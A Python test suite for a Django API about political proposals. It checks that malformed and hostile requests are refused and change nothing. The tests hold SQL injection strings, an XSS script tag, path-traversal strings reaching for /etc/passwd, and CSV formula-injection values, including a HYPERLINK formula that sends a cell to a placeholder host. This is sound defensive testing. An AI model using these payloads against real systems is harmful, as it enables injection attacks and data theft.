"""Hostile and malformed input: each is a 4xx problem+json and changes nothing.

Every test that sends a write uses ``unchanged``: it snapshots every table
of the app (history included) before the bad requests and compares after
them, so "refused" also means "nothing written".
"""

import datetime as dt
import json
from urllib.parse import quote, urlencode

import pytest
from django.apps import apps
from django.db import connection

from proposals.models import Proposal, Status, StatusEvent
from proposals.representations.stored import STORED_FIELDS
from tests.factories import ProposalFactory

from .helpers import assert_problem, error_fields, write

API = "/api/v1"
PROPOSALS = f"{API}/proposals/"
URL = f"{API}/proposals/anti-extremism-treaty/"
EVENTS = f"{URL}events/"
PARTICIPATION = f"{URL}participation/"


def _snapshot() -> dict:
    """Every row of every table of the app, historical tables included,
    without the stored renderings (a read may store a proposal's detail:
    derived from the data, not data; proposals/representations/stored.py)."""
    return {
        model._meta.label: [
            {k: v for k, v in row.items() if k not in STORED_FIELDS}
            for row in model._base_manager.order_by("pk").values()
        ]
        for model in apps.get_app_config("proposals").get_models()
    }


@pytest.fixture
def unchanged(db):
    """Call after setting up data; on teardown asserts nothing was written."""
    state = {}

    def take():
        state["before"] = _snapshot()

    yield take
    assert "before" in state, "the test forgot to take the snapshot"
    assert _snapshot() == state["before"]


def _tag(client, url) -> str:
    return client.get(url)["ETag"]


# --------------------------------------------------------------------------
# Bodies that are not what they claim to be
# --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    ['{"slug": "x", "name": ', "{'slug': 'single-quotes'}", "[1, 2", "\x00", "{NaN}", '{"a": 1}}'],
)
def test_malformed_json_is_400(editor_api, topic, unchanged, body):
    unchanged()
    assert_problem(editor_api.post(f"{API}/topics/", body, content_type="application/json"), 400)
    tag = _tag(editor_api, f"{API}/topics/{topic.slug}/")
    response = editor_api.patch(f"{API}/topics/{topic.slug}/", body, content_type="application/json", HTTP_IF_MATCH=tag)
    assert_problem(response, 400)


def test_json_that_is_not_an_object_is_400(editor_api, topic, unchanged):
    unchanged()
    for body in ("[]", '"a string"', "42", "null"):
        assert_problem(editor_api.post(f"{API}/topics/", body, content_type="application/json"), 400)


@pytest.mark.parametrize("content_type", ["text/plain", "application/xml", "text/csv"])
def test_unsupported_content_type_is_415(editor_api, proposal, unchanged, content_type):
    unchanged()
    body = json.dumps({"slug": "plain", "name": "Plain"})
    assert_problem(editor_api.post(f"{API}/topics/", body, content_type=content_type), 415)
    event = json.dumps({"status": "adopted", "occurred_on": "2020-01-01"})
    assert_problem(editor_api.post(EVENTS, event, content_type=content_type), 415)
    response = editor_api.patch(
        URL, json.dumps({"title": "X"}), content_type=content_type, HTTP_IF_MATCH=_tag(editor_api, URL)
    )
    assert_problem(response, 415)


# --------------------------------------------------------------------------
# Bodies over the size cap
# --------------------------------------------------------------------------

CAP = 2_000


@pytest.fixture
def small_cap(settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = CAP
    return CAP


def test_json_body_over_the_cap_is_413(editor_api, proposal, small_cap, unchanged):
    unchanged()
    big = "x" * (small_cap + 1)
    response = editor_api.post(f"{API}/topics/", {"slug": "big", "name": "Big", "description": big}, format="json")
    body = assert_problem(response, 413)
    assert str(small_cap) in body["detail"]
    assert_problem(
        editor_api.post(EVENTS, {"status": "adopted", "occurred_on": "2020-01-01", "note": big}, format="json"), 413
    )
    for method in ("put", "patch"):
        response = getattr(editor_api, method)(
            URL, {"summary": big}, format="json", HTTP_IF_MATCH=_tag(editor_api, URL)
        )
        assert_problem(response, 413)


def test_json_body_just_under_the_cap_is_accepted(editor_api, small_cap):
    payload = {"slug": "fits", "name": "Fits", "description": ""}
    payload["description"] = "x" * (small_cap - len(json.dumps(payload)) - 10)
    assert editor_api.post(f"{API}/topics/", payload, format="json").status_code == 201


def test_multipart_body_over_the_cap_is_413(editor_api, small_cap, unchanged):
    unchanged()
    data = {"slug": "big", "name": "Big", "description": "x" * (small_cap + 1)}
    assert_problem(editor_api.post(f"{API}/topics/", data, format="multipart"), 413)


def test_urlencoded_form_body_over_the_cap_is_413(editor_api, small_cap, unchanged):
    unchanged()
    body = urlencode({"slug": "big", "name": "Big", "description": "x" * (small_cap + 1)})
    assert_problem(editor_api.post(f"{API}/topics/", body, content_type="application/x-www-form-urlencoded"), 413)


def test_form_bodies_under_the_cap_are_refused_as_not_json(editor_api, small_cap):
    # The API takes JSON only (tests/api/test_docs.py); the size check still comes first.
    assert_problem(editor_api.post(f"{API}/topics/", {"slug": "form", "name": "Form"}, format="multipart"), 415)


def test_anonymous_oversized_body_is_refused_before_anything_else(api, small_cap, unchanged):
    unchanged()
    assert_problem(api.post(f"{API}/topics/", {"description": "x" * (small_cap + 1)}, format="json"), 413)


# --------------------------------------------------------------------------
# Field values
# --------------------------------------------------------------------------


def test_nul_bytes_in_string_fields_are_400(editor_api, proposal, source, unchanged):
    unchanged()
    response = editor_api.post(f"{API}/topics/", {"slug": "nul", "name": "Nul\x00name"}, format="json")
    assert_problem(response, 400, "name")
    response = editor_api.patch(URL, {"title": "A\x00B"}, format="json", HTTP_IF_MATCH=_tag(editor_api, URL))
    assert_problem(response, 400, "title")
    response = editor_api.post(
        EVENTS, {"status": "adopted", "occurred_on": "2020-01-01", "note": "\x00"}, format="json"
    )
    assert_problem(response, 400, "note")
    response = editor_api.post(f"{URL}evidence/", {"source": {"id": source.pk}, "quote": "treaty\x00"}, format="json")
    assert_problem(response, 400, "quote")
    response = editor_api.post(
        PARTICIPATION, {"party": {"slug": "li-keqiang"}, "action": "supported", "note": "\x00"}, format="json"
    )
    assert_problem(response, 400, "note")
    response = editor_api.patch(
        f"{API}/actors/li-keqiang/",
        {"aliases": [{"name": "Li\x00"}]},
        format="json",
        HTTP_IF_MATCH=_tag(editor_api, f"{API}/actors/li-keqiang/"),
    )
    assert_problem(response, 400, "aliases.0.name")


@pytest.mark.parametrize(
    ("url", "param"),
    [
        (PROPOSALS, "q"),
        (PROPOSALS, "topic"),
        (PROPOSALS, "status"),
        (PROPOSALS, "ordering"),
        (f"{API}/actors/", "slug"),
        (f"{API}/topics/", "ordering"),
    ],
)
def test_nul_bytes_in_query_parameters_are_400(api, proposal, url, param):
    assert_problem(api.get(url, {param: "treaty\x00"}), 400, param)


def test_over_long_strings_are_400_naming_the_field(editor_api, proposal, unchanged):
    unchanged()
    response = editor_api.post(PROPOSALS, {"slug": "long", "title": "t" * 301}, format="json")
    assert_problem(response, 400, "title")
    response = editor_api.patch(URL, {"title": "t" * 301}, format="json", HTTP_IF_MATCH=_tag(editor_api, URL))
    assert_problem(response, 400, "title")
    response = editor_api.post(PROPOSALS, {"slug": "s" * 121, "title": "Long slug"}, format="json")
    assert_problem(response, 400, "slug")
    assert_problem(editor_api.post(f"{API}/topics/", {"slug": "t", "name": "n" * 121}, format="json"), 400, "name")
    assert_problem(editor_api.get(PROPOSALS, {"q": "q" * 201}), 400, "q")


def test_a_300_character_title_is_fine(editor_api, proposal):
    response = editor_api.patch(URL, {"title": "t" * 300}, format="json", HTTP_IF_MATCH=_tag(editor_api, URL))
    assert response.status_code == 200, response.content


@pytest.mark.parametrize("status", ["finished", "PROPOSED", "", None, 3, ["adopted"], {"code": "adopted"}])
def test_unknown_status_in_an_event_is_400(editor_api, proposal, unchanged, status):
    unchanged()
    assert_problem(
        editor_api.post(EVENTS, {"status": status, "occurred_on": "2020-01-01"}, format="json"), 400, "status"
    )


def test_unknown_initial_status_is_400(editor_api, db, unchanged):
    unchanged()
    response = editor_api.post(PROPOSALS, {"slug": "x", "title": "X", "initial_status": "done"}, format="json")
    assert_problem(response, 400, "initial_status")


@pytest.mark.parametrize("relation", ["friend_of", "BUILDS_ON", "", None, 1])
def test_unknown_relation_types_are_400(editor_api, proposal, unchanged, relation):
    other = ProposalFactory(slug="other-proposal")
    unchanged()
    payload = {"related": [{"relation": relation, "slug": other.slug}]}
    response = editor_api.patch(URL, payload, format="json", HTTP_IF_MATCH=_tag(editor_api, URL))
    assert_problem(response, 400, "related.0.relation")
    response = editor_api.post(PROPOSALS, {"slug": "new-one", "title": "New", **payload}, format="json")
    assert_problem(response, 400, "related.0.relation")


# (ISO 8601's basic form, 20151215, is accepted: unambiguous, and what Python parses.)
@pytest.mark.parametrize(
    "value", ["15/12/2015", "12/15/2015", "2015-13-01", "2015-02-30", "yesterday", "2015-12-15T00:00:00Z"]
)
def test_dates_in_the_wrong_format_are_400(editor_api, proposal, unchanged, value):
    unchanged()
    assert_problem(
        editor_api.post(EVENTS, {"status": "adopted", "occurred_on": value}, format="json"), 400, "occurred_on"
    )
    response = editor_api.patch(URL, {"proposed_on": value}, format="json", HTTP_IF_MATCH=_tag(editor_api, URL))
    assert_problem(response, 400, "proposed_on")
    response = editor_api.post(
        f"{API}/venues/", {"slug": "v", "name": "V", "kind": "summit", "starts_on": value}, format="json"
    )
    assert_problem(response, 400, "starts_on")
    response = editor_api.post(
        PARTICIPATION, {"party": {"slug": "li-keqiang"}, "action": "supported", "occurred_on": value}, format="json"
    )
    assert_problem(response, 400, "occurred_on")


@pytest.mark.parametrize(
    ("param", "value"),
    [
        ("proposed_after", "15/12/2015"),
        ("proposed_before", "2015-02-30"),
        ("updated_since", "last tuesday"),
        ("venue", "not-a-number"),
        ("venue", "999999"),
        ("status", "finished"),
        ("role", "boss"),
        ("topic", "no-such-topic"),
        ("party", "no-such-actor"),
        ("party_id", "abc"),
        ("party_action", "ratify"),
    ],
)
def test_malformed_filters_are_400_naming_the_parameter(api, proposal, param, value):
    assert_problem(api.get(PROPOSALS, {param: value}), 400, param)


@pytest.mark.parametrize(
    ("url", "ordering"),
    [
        (PROPOSALS, "password"),
        (PROPOSALS, "title,-secret"),
        (PROPOSALS, "search_vector"),
        (PROPOSALS, "venue__name"),
        (f"{API}/actors/", "id;drop"),
        (f"{API}/sources/", "text"),
        (f"{API}/topics/", "--name"),
    ],
)
def test_ordering_by_an_unknown_field_is_400(api, proposal, url, ordering):
    body = assert_problem(api.get(url, {"ordering": ordering}), 400, "ordering")
    assert "Allowed:" in body["errors"][0]["detail"]


def test_ordering_by_a_known_field_works(api, proposal):
    assert api.get(PROPOSALS, {"ordering": "-title,proposed_on"}).status_code == 200


def test_csv_is_only_the_lists_format(api, proposal):
    # The export is of the list; one proposal has no CSV form.
    assert api.get(PROPOSALS, {"format": "csv"}).status_code == 200
    assert_problem(api.get(URL, {"format": "csv"}), 404)
    assert_problem(api.get(f"{URL}history/", {"format": "csv"}), 404)
    assert_problem(api.get(URL, HTTP_ACCEPT="text/csv"), 406)


@pytest.mark.parametrize("fmt", ["xml", "DELETE", "csv%00", "api.json"])
def test_unknown_formats_are_404(api, proposal, fmt):
    assert_problem(api.get(PROPOSALS, {"format": fmt}), 404)


# --------------------------------------------------------------------------
# Pagination
# --------------------------------------------------------------------------


def _many_proposals(count: int) -> None:
    """``count`` bare proposals, each opened by a status event, in four queries."""
    now = dt.datetime(2020, 1, 1, tzinfo=dt.UTC)
    proposals = Proposal.objects.bulk_create(
        Proposal(slug=f"bulk-{n}", title=f"Bulk proposal {n}", created_at=now, updated_at=now) for n in range(count)
    )
    if not proposals[0].pk:  # backends that do not return ids from bulk inserts
        proposals = list(Proposal.objects.filter(slug__startswith="bulk-"))
    StatusEvent.objects.bulk_create(
        StatusEvent(proposal=p, status=Status.PROPOSED, occurred_on=dt.date(2020, 1, 1)) for p in proposals
    )


@pytest.mark.parametrize("page_size", ["201", "1000", "99999999999999999999"])
def test_huge_page_size_is_capped_at_200(api, db, page_size):
    _many_proposals(230)
    response = api.get(PROPOSALS, {"page_size": page_size})
    assert response.status_code == 200, response.content
    body = response.json()
    assert body["count"] == 230
    assert len(body["results"]) == 200
    assert body["next"] is not None
    second = api.get(body["next"]).json()
    assert len(second["results"]) == 30
    assert {p["slug"] for p in body["results"]}.isdisjoint({p["slug"] for p in second["results"]})


@pytest.mark.parametrize("page_size", ["0", "-5", "abc", "1e3", "\x00"])
def test_nonsense_page_sizes_are_400(api, proposal, page_size):
    assert_problem(api.get(PROPOSALS, {"page_size": page_size}), 400, "page_size")


@pytest.mark.parametrize("page", ["0", "-1", "abc", "1.5", "\x00"])
def test_malformed_page_numbers_are_400(api, proposal, page):
    assert_problem(api.get(PROPOSALS, {"page": page}), 400, "page")


def test_a_page_past_the_end_is_404(api, proposal):
    assert_problem(api.get(PROPOSALS, {"page": "999"}), 404)


# --------------------------------------------------------------------------
# Search text is data, never syntax
# --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        '"anti-extremism treaty"',
        '"unterminated quote',
        "treaty -extremism",
        "treaty or summit",
        "a & b | !c",
        "(treaty",
        "treaty:*",
        "' OR '1'='1",
        "'; DROP TABLE proposals_proposal; --",
        "%",
        "_",
        "\\",
        "--",
        "- - -",
        "<script>alert(1)</script>",
        "日本語 العربية",
        " ",
    ],
)
def test_search_with_quotes_operators_or_sql_is_a_200(api, proposal, text):
    response = api.get(PROPOSALS, {"q": text})
    assert response.status_code == 200, response.content
    slugs = [p["slug"] for p in response.json()["results"]]
    assert set(slugs) <= {"anti-extremism-treaty"}
    assert Proposal.objects.filter(pk=proposal.pk).exists()


def test_search_still_finds_what_it_should(api, proposal):
    response = api.get(PROPOSALS, {"q": '"anti-extremism treaty"'})
    assert [p["slug"] for p in response.json()["results"]] == ["anti-extremism-treaty"]
    table = Proposal._meta.db_table
    assert table in connection.introspection.table_names()


# --------------------------------------------------------------------------
# Slugs and ids with path tricks
# --------------------------------------------------------------------------

# The test client, like every WSGI server, decodes %2F into PATH_INFO, so an
# encoded slash that spells a real path is that path; what must hold is that
# nothing escapes the routes or matches a record it does not name.
TRICKS = [
    "..%2F",
    "..%2F..%2Fadmin",
    "%2e%2e",
    "%2E%2E%2Fetc%2Fpasswd",
    "anti-extremism-treaty%2F..",
    "a%00b",
    "%C3%A9",
    quote("трактат"),
    quote("anti\u2011extremism-treaty"),  # non-breaking hyphen look-alike
    "anti-extremism-treaty%20",
    "%20anti-extremism-treaty",
    "anti-extremism-treaty%2E%2E",
]


@pytest.mark.parametrize("trick", TRICKS)
def test_slugs_with_path_tricks_are_404(api, editor_api, proposal, unchanged, trick):
    unchanged()
    for suffix in ("", "history/", "events/", "evidence/", "participation/"):
        assert_problem(api.get(f"{PROPOSALS}{trick}/{suffix}"), 404)
    assert_problem(
        editor_api.post(
            f"{PROPOSALS}{trick}/events/", {"status": "adopted", "occurred_on": "2020-01-01"}, format="json"
        ),
        404,
    )
    assert_problem(editor_api.delete(f"{PROPOSALS}{trick}/", HTTP_IF_MATCH="*"), 404)
    assert_problem(api.get(f"{API}/topics/{trick}/"), 404)


@pytest.mark.parametrize("trick", ["..%2F", "%2e%2e", "1%2F..", "1.0", "0x1", "-1", "99999999999999999999999", "1%00"])
def test_ids_with_path_tricks_are_404(api, editor_api, actor, proposal, unchanged, trick):
    unchanged()
    assert_problem(api.get(f"{PARTICIPATION}{trick}/"), 404)
    assert_problem(editor_api.delete(f"{PARTICIPATION}{trick}/", HTTP_IF_MATCH="*"), 404)
    assert_problem(api.get(f"{API}/actors/{trick}/"), 404)
    assert_problem(editor_api.patch(f"{API}/actors/{trick}/", {"name": "X"}, format="json", HTTP_IF_MATCH="*"), 404)
    assert_problem(editor_api.delete(f"{API}/actors/{trick}/", HTTP_IF_MATCH="*"), 404)


@pytest.mark.parametrize("slug", ["../etc", "a/b", "with space", "é", "a\x00b", "UPPER.case", ""])
def test_slugs_in_bodies_must_be_slugs(editor_api, db, unchanged, slug):
    unchanged()
    assert_problem(editor_api.post(PROPOSALS, {"slug": slug, "title": "X"}, format="json"), 400, "slug")
    assert_problem(editor_api.post(f"{API}/topics/", {"slug": slug, "name": "X"}, format="json"), 400, "slug")


# --------------------------------------------------------------------------
# Unknown fields
# --------------------------------------------------------------------------


def test_unknown_body_fields_are_400_naming_each(editor_api, proposal, actor, unchanged):
    unchanged()
    response = editor_api.post(
        f"{API}/topics/", {"slug": "new", "name": "New", "colour": "red", "is_admin": True}, format="json"
    )
    assert_problem(response, 400)
    assert sorted(error_fields(response)) == ["colour", "is_admin"]

    response = editor_api.patch(
        URL, {"title": "X", "statuss": "adopted"}, format="json", HTTP_IF_MATCH=_tag(editor_api, URL)
    )
    assert_problem(response, 400, "statuss")

    response = editor_api.post(EVENTS, {"status": "adopted", "occurred_on": "2020-01-01", "user": 1}, format="json")
    assert_problem(response, 400, "user")

    response = editor_api.post(
        PARTICIPATION, {"party": {"slug": actor.slug}, "action": "supported", "user": 1}, format="json"
    )
    assert_problem(response, 400, "user")

    nested = {"proponents": [{"id": actor.pk, "role": "proposed", "primary": True, "weight": 3}]}
    response = editor_api.patch(URL, nested, format="json", HTTP_IF_MATCH=_tag(editor_api, URL))
    assert_problem(response, 400, "proponents.0.weight")

    response = editor_api.patch(
        URL, {"venue": {"id": actor.pk, "evil": 1}}, format="json", HTTP_IF_MATCH=_tag(editor_api, URL)
    )
    assert_problem(response, 400, "venue.evil")


def test_read_only_fields_are_accepted_and_ignored(editor_api, proposal):
    body = editor_api.get(URL).json()
    response = editor_api.patch(
        URL,
        {"id": 999, "status": "adopted", "version": 77, "created_at": "2000-01-01T00:00:00Z"},
        format="json",
        HTTP_IF_MATCH=_tag(editor_api, URL),
    )
    assert response.status_code == 200, response.content
    after = editor_api.get(URL).json()
    assert (after["id"], after["status"], after["created_at"]) == (body["id"], body["status"], body["created_at"])


@pytest.mark.parametrize("query", ["named=maybe", "kind=planet"])
def test_a_malformed_actor_filter_is_a_400_not_ignored(api, db, query):
    response = api.get(f"/api/v1/actors/?{query}")
    assert response.status_code == 400
    assert response.json()["errors"][0]["field"] == query.split("=")[0]


def test_named_false_lists_only_unnamed_actors(api, db):
    from proposals.importers import load_seeds

    load_seeds()
    names = [row["name"] for row in api.get("/api/v1/actors/?named=false&page_size=200").json()["results"]]
    assert "one Chinese scholar" in names
    assert all(not row["named"] for row in api.get("/api/v1/actors/?named=false").json()["results"])


def test_a_compact_date_in_a_body_is_a_400(editor_api, proposal):
    response = editor_api.post(
        f"/api/v1/proposals/{proposal.slug}/events/", {"status": "adopted", "occurred_on": "20160101"}, format="json"
    )
    assert response.status_code == 400
    assert response.json()["errors"][0]["field"] == "occurred_on"


# --------------------------------------------------------------------------
# Issue items: trailing slashes, HTML error pages, deep nesting, CSV
# formulas, 64-bit overflow, slugs and JSON types, empty filters.
# Each example is a test; each kind also has a sweep.
# --------------------------------------------------------------------------

DEBUG_ON_AND_OFF = pytest.mark.parametrize("debug", [False, True], ids=["debug-off", "debug-on"])


# -- A URL without its trailing slash: the write happens, never a redirect --


@DEBUG_ON_AND_OFF
def test_post_without_the_trailing_slash_creates(editor_api, settings, db, debug):
    settings.DEBUG = debug
    response = editor_api.post(f"{API}/topics", {"slug": "no-slash", "name": "No slash"}, format="json")
    assert response.status_code == 201, response.content
    assert response["Content-Type"] == "application/json"
    assert response.json()["slug"] == "no-slash"
    from proposals.models import Topic

    assert Topic.objects.filter(slug="no-slash").exists()


@DEBUG_ON_AND_OFF
def test_put_patch_delete_without_the_trailing_slash_work(editor_api, proposal, settings, debug):
    settings.DEBUG = debug
    no_slash = URL.rstrip("/")
    response = editor_api.patch(no_slash, {"title": "Patched"}, format="json", HTTP_IF_MATCH=_tag(editor_api, URL))
    assert response.status_code == 200, response.content
    body = editor_api.get(URL).json()
    writable = {"slug": body["slug"], "title": "Replaced", "summary": body["summary"]}
    response = editor_api.put(no_slash, writable, format="json", HTTP_IF_MATCH=_tag(editor_api, URL))
    assert response.status_code == 200, response.content
    assert Proposal.objects.get(pk=proposal.pk).title == "Replaced"
    response = editor_api.post(EVENTS.rstrip("/"), {"status": "adopted", "occurred_on": "2020-01-01"}, format="json")
    assert response.status_code == 201, response.content
    response = editor_api.delete(no_slash, HTTP_IF_MATCH=_tag(editor_api, URL))
    assert response.status_code == 204, response.content
    assert not Proposal.objects.filter(pk=proposal.pk).exists()


def _api_paths(proposal, actor, venue, source, topic) -> list[str]:
    """One URL of every API v1 route (list, detail, history, parts), slash form."""
    paths = [f"{API}/"]
    for plural, key in (
        ("proposals", proposal.slug),
        ("actors", actor.pk),
        ("venues", venue.pk),
        ("sources", source.pk),
        ("topics", topic.slug),
    ):
        paths += [f"{API}/{plural}/", f"{API}/{plural}/{key}/", f"{API}/{plural}/{key}/history/"]
    return [*paths, EVENTS, f"{URL}evidence/", PARTICIPATION, "/api/schema/"]


@DEBUG_ON_AND_OFF
def test_every_api_route_answers_without_its_trailing_slash(
    api, proposal, actor, venue, source, topic, settings, debug
):
    settings.DEBUG = debug
    for path in _api_paths(proposal, actor, venue, source, topic):
        with_slash = api.get(path, HTTP_ACCEPT="application/json")
        without = api.get(path.rstrip("/"), HTTP_ACCEPT="application/json")
        assert with_slash.status_code == 200, path
        assert without.status_code == 200, (path, without.status_code)  # served, not redirected
        if path.startswith(API):
            assert without.json() == with_slash.json(), path


@DEBUG_ON_AND_OFF
def test_every_write_route_takes_writes_without_the_slash(
    editor_api, proposal, actor, venue, source, topic, settings, debug
):
    # Refused writes (no If-Match, empty bodies) prove the route was reached:
    # the write's own answer, as JSON, not a redirect or an HTML 500.
    settings.DEBUG = debug
    for path in _api_paths(proposal, actor, venue, source, topic):
        if not path.startswith(API) or path.endswith("history/") or path == f"{API}/":
            continue
        path = path.rstrip("/")
        detail = path.count("/") == 4 and not path.endswith(("events", "evidence", "participation"))
        for method in ("put", "patch", "delete") if detail else ("post",):
            response = getattr(editor_api, method)(path, {}, format="json")
            assert response.status_code in (400, 428), (method, path, response.status_code)
            assert_problem(response, response.status_code)


@DEBUG_ON_AND_OFF
def test_an_unknown_url_without_the_slash_is_a_problem_404(api, editor_api, db, settings, debug):
    settings.DEBUG = debug
    assert_problem(api.get(f"{API}/nope"), 404)
    assert_problem(editor_api.post(f"{API}/nope", {"a": 1}, format="json"), 404)


# -- No HTML error pages under /api/, debug on or off -----------------------


@DEBUG_ON_AND_OFF
@pytest.mark.parametrize(
    "path", [f"{API}/nope/", "/api/nope/", "/api/v2/proposals/", f"{URL}nope/", f"{API}/actors/1/2/3/"]
)
def test_unknown_api_urls_are_problem_404s(api, proposal, settings, debug, path):
    settings.DEBUG = debug
    body = assert_problem(api.get(path), 404)
    assert len(body["detail"]) < 200


@DEBUG_ON_AND_OFF
def test_unknown_api_urls_are_problem_404s_for_every_method(editor_api, db, settings, debug):
    settings.DEBUG = debug
    for method in ("get", "head", "post", "put", "patch", "delete", "options"):
        response = getattr(editor_api, method)(f"{API}/nope/")
        assert response.status_code == 404, method
        assert response["Content-Type"] == "application/problem+json", method


@DEBUG_ON_AND_OFF
def test_methods_a_route_does_not_allow_are_problem_405s(editor_api, proposal, settings, debug):
    settings.DEBUG = debug
    for method, path in (("delete", PROPOSALS), ("put", EVENTS), ("delete", f"{URL}history/"), ("post", URL)):
        response = getattr(editor_api, method)(path, {}, format="json")
        assert_problem(response, 405)
        assert response["Allow"]


@DEBUG_ON_AND_OFF
def test_a_crash_under_api_is_a_problem_500(api, proposal, settings, monkeypatch, debug):
    settings.DEBUG = debug
    from proposals.api import views

    def crash(self, *args, **kwargs):
        raise RuntimeError("boom")

    monkeypatch.setattr(views.ProposalViewSet, "list", crash)
    api.raise_request_exception = False
    body = assert_problem(api.get(PROPOSALS), 500)
    assert "boom" not in body["detail"]


@DEBUG_ON_AND_OFF
def test_a_crash_in_middleware_under_api_is_a_problem_500(api, db, settings, monkeypatch, debug):
    # Outside DRF's handler: Django itself renders the 500 (technical page with DEBUG on).
    settings.DEBUG = debug
    from tracker import middleware

    def crash(self, request):
        raise RuntimeError("boom")

    monkeypatch.setattr(middleware.BodySizeLimitMiddleware, "__call__", crash)
    api.raise_request_exception = False
    assert_problem(api.get(PROPOSALS), 500)


def test_pages_outside_the_api_keep_djangos_html(client, db, settings):
    settings.DEBUG = True
    response = client.get("/nope/")
    assert response.status_code == 404
    assert response["Content-Type"].startswith("text/html")


# -- Deep nesting -----------------------------------------------------------


def _nested(depth: int, leaf="x", kind="list") -> str:
    if kind == "list":
        return "[" * depth + json.dumps(leaf) + "]" * depth
    return '{"a": ' * depth + json.dumps(leaf) + "}" * depth


@pytest.mark.parametrize("kind", ["list", "object"])
@pytest.mark.parametrize("depth", [33, 1_000, 100_000])
def test_deeply_nested_json_is_400(editor_api, proposal, unchanged, depth, kind):
    unchanged()
    inner = _nested(depth - 1, kind=kind)
    body = '{"slug": "deep", "name": "Deep", "description": ' + inner + "}"
    response = editor_api.post(f"{API}/topics/", body, content_type="application/json")
    assert "deeper than" in assert_problem(response, 400)["detail"]
    event = '{"status": "adopted", "occurred_on": "2020-01-01", "note": ' + inner + "}"
    assert_problem(editor_api.post(EVENTS, event, content_type="application/json"), 400)
    body = '{"proponents": [' + inner + "]}"
    response = editor_api.patch(URL, body, content_type="application/json", HTTP_IF_MATCH=_tag(editor_api, URL))
    assert_problem(response, 400)


def test_json_nested_as_deep_as_allowed_is_parsed(editor_api, proposal, unchanged):
    # 32 levels parse; the value is then just the wrong type for the field.
    unchanged()
    body = '{"slug": "deep", "name": "Deep", "description": ' + _nested(31) + "}"
    response = editor_api.post(f"{API}/topics/", body, content_type="application/json")
    assert_problem(response, 400, "description")


@pytest.mark.parametrize("fmt", ["multipart", "form"])
def test_deeply_nested_form_keys_are_400(editor_api, proposal, unchanged, fmt):
    unchanged()
    data = {"slug": "deep", "name": "Deep", "proponents" + "[0]" * 1_000 + "[id]": "1", "a" + "[b]" * 1000: "x"}
    # Bodies are JSON only (415 for forms), so nested form keys never reach
    # a parser that could recurse on them.
    if fmt == "form":
        response = editor_api.post(f"{API}/topics/", urlencode(data), content_type="application/x-www-form-urlencoded")
    else:
        response = editor_api.post(f"{API}/topics/", data, format="multipart")
    assert_problem(response, 415)
    tag = _tag(editor_api, URL)
    response = editor_api.patch(
        URL, urlencode(data), content_type="application/x-www-form-urlencoded", HTTP_IF_MATCH=tag
    )
    assert_problem(response, 415)


def test_json_depth_check_counts_containers():
    from proposals.api.parsers import json_depth_exceeds

    assert not json_depth_exceeds({"a": [1, {"b": []}]}, 4)
    assert json_depth_exceeds({"a": [1, {"b": []}]}, 3)
    assert not json_depth_exceeds("scalar", 0)
    assert json_depth_exceeds(json.loads(_nested(900)), 899)


# -- CSV formula injection --------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=already quoted",
]


def _csv_rows(api, query: str = "") -> list[dict]:
    import csv
    import io

    response = api.get(f"{PROPOSALS}?format=csv{query}")
    assert response.status_code == 200
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_a_formula_title_is_exported_as_text(api, proposal):
    title = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
    Proposal.objects.filter(pk=proposal.pk).update(title=title)
    (row,) = _csv_rows(api)
    assert row["title"] == "'" + title


#: Formulas a name can hold. Names may not start with whitespace at all
#: (``VersionedModel.non_blank_fields``), so the tab, CR and LF forms cannot
#: be stored; ``csv_cell`` still neutralises them (tested below).
STORABLE_FORMULAS = [value for value in FORMULAS if not value[:1].isspace()]


@pytest.mark.parametrize("value", [v for v in FORMULAS if v[:1].isspace()])
def test_names_starting_with_whitespace_cannot_carry_a_formula_in(db, value):
    from django.core.exceptions import ValidationError

    from tests.factories import ActorFactory

    with pytest.raises(ValidationError, match="leading and trailing whitespace"):
        ActorFactory(name=value)


@pytest.mark.parametrize("value", STORABLE_FORMULAS)
def test_csv_neutralises_formulas_in_every_text_column(api, db, value):
    from proposals.models import Actor, Topic, Venue
    from tests.factories import ActorFactory, TopicFactory, VenueFactory

    venue = VenueFactory(name=value)
    lead = ActorFactory(name=value)
    topic = TopicFactory(slug="formula-topic")
    ProposalFactory(
        slug="formula",
        title=value,
        venue=venue,
        proponents=[{"actor": lead, "role": "proposed", "is_primary": True}],
        topics=[topic],
    )
    assert Actor.objects.filter(name=value).exists() and Venue.objects.filter(name=value).exists()
    assert Topic.objects.filter(pk=topic.pk).exists()
    (row,) = _csv_rows(api)
    for column in ("title", "venue", "primary_proponent", "proponents"):
        assert row[column].startswith("'" + value), (column, row[column])
        assert row[column][1:].startswith(value)
    assert row["slug"] == "formula"


def test_harmless_cells_are_exported_unchanged(api, proposal):
    (row,) = _csv_rows(api)
    assert row["title"] == "Anti-extremism treaty"
    assert row["venue"] == "SCO summit"
    assert row["proposed_on"] == "2015-12-15"
    assert row["venue_id"] == str(proposal.venue_id)


def test_csv_keeps_non_ascii_names_readable(api, proposal):
    Proposal.objects.filter(pk=proposal.pk).update(title="“Curly” 上海合作组织")
    (row,) = _csv_rows(api)
    assert row["title"] == "“Curly” 上海合作组织"


@pytest.mark.parametrize("value", [*FORMULAS, "plain", "", "'", "''", "a=b", 42, None])
def test_csv_cell_escaping_is_reversible(value):
    from proposals.api.renderers import csv_cell

    cell = csv_cell(value)
    if isinstance(value, str) and value:
        assert cell[:1] not in "=+-@\t\r\n＝＋－＠"
        restored = cell[1:] if cell.startswith("'") else cell
        assert restored == value
    else:
        assert cell == value


def test_the_generic_csv_renderer_escapes_too():
    from proposals.api.renderers import CSVRenderer

    out = CSVRenderer().render([{"slug": "s", "title": "=1+1"}]).decode("utf-8-sig")
    assert out.splitlines()[1].startswith("s,'=1+1")


# -- 64-bit overflow: ids, cursors, pages on both databases ----------------

TOO_BIG = str(2**63)  # 9223372036854775808: one past the largest 64-bit id
HOSTILE_NUMBERS = [TOO_BIG, f"-{TOO_BIG}", "9" * 1_000, "-1", "0", "1e3", "0x10", "abc", "1\x00", "", " 1"]


